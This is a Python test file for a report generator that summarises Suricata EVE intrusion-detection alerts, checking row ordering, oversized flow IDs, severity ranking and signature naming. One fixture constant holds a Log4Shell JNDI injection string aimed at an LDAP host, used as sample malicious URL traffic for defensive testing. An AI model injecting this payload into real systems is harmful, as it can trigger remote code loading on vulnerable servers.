"""The tables tell the same whatever the order of the rows, and whatever the numbers are."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest
from report_pages import read_page, read_sheet

from suricata_eve import EveValueError, report

LOOKUP = "${jndi:ldap://192.0.2.66:1389/a}"


def events(**columns: list[Any]) -> pd.DataFrame:
    count = len(next(iter(columns.values())))
    known: dict[str, Any] = {
        "event_type": ["alert"] * count,
        "timestamp": [f"2022-01-01T00:00:{n:02}.000000+0000" for n in range(count)],
    }
    return pd.DataFrame(known | {k.replace("__", "."): v for k, v in columns.items()})


def rows_of(frame: pd.DataFrame, folder: Path, key: str) -> list[dict[str, Any]]:
    rows = read_sheet(report(frame, folder / "a.html")[1])
    return [row for row in rows if row["section"] == key]


def test_the_order_of_rows_does_not_matter(sample8: pd.DataFrame, tmp_path: Path) -> None:
    """Their numbers in the log break ties."""
    part = sample8.eve.by_flow(sample8.eve.alerts(signature="JNDI"))
    whole = [path.read_bytes() for path in report(part, tmp_path / "a.html")]
    shuffled = part.sample(frac=1, random_state=5)

    assert [path.read_bytes() for path in report(shuffled, tmp_path / "a.html")] == whole


def test_flow_ids_beyond_int64_change_nothing_else(sample8: pd.DataFrame, tmp_path: Path) -> None:
    """Who is the client is told by other events of the flow all the same."""
    part = sample8.eve.by_flow(sample8.eve.alerts(signature="JNDI"))
    beyond = part.copy()
    ids = [2**63 + number for number in part["flow_id"].tolist()]
    beyond["flow_id"] = pd.arrays.ArrowExtensionArray(pa.array(ids, pa.uint64()))
    expected = read_sheet(report(part, tmp_path / "a.html")[1])
    got = read_sheet(report(beyond, tmp_path / "a.html")[1])

    for row in expected:
        if row["flow_id"]:
            row["flow_id"] = f"'{2**63 + int(row['flow_id'][1:])}"
    assert got == expected


def test_without_flow_ids_an_error_is_the_one_that_matters(tmp_path: Path) -> None:
    frame = events(
        src_ip=["192.0.2.1", "192.0.2.1"],
        dest_ip=["192.0.2.2", "192.0.2.2"],
        src_port=[1, 70_000],
        dest_port=[80, 80],
        http__url=[None, LOOKUP],
    )
    frame["event_type"] = ["alert", "http"]
    with pytest.raises(EveValueError, match="'src_port' holds what is no port"):
        report(frame, tmp_path / "a.html")


def test_the_severity_of_a_signature_is_its_highest_of_any_number(tmp_path: Path) -> None:
    frame = events(
        alert__signature=["a"] * 30 + ["b"] * 2 + ["c"],
        alert__severity=[*range(31, 1, -1), None, None, 1],
    )
    rows = rows_of(frame, tmp_path, "signature")

    assert [(row["text"], row["severity"]) for row in rows] == [("c", "1"), ("a", "2"), ("b", "")]


def test_alerts_without_a_signature_are_named_as_that(tmp_path: Path) -> None:
    """A rule without ``msg`` has an empty one."""
    frame = events(alert__signature=["", None, "a"], alert__signature_id=[5, 6, 7])
    rows = rows_of(frame, tmp_path, "signature")
    page = read_page(tmp_path / "a.html")

    assert [(row["text"], row["count"]) for row in rows] == [("(no signature)", "2"), ("a", "1")]
    assert [row[2] for row in page.tables["alert"][1:]] == ["", "", "a"]


def test_a_report_of_one_event_of_every_type(sample8: pd.DataFrame, tmp_path: Path) -> None:
    first = sample8.iloc[np.flatnonzero(~sample8["event_type"].duplicated())]
    page = read_page(report(first, tmp_path / "a.html")[0])

    assert len(page.tables["alert"]) == 2
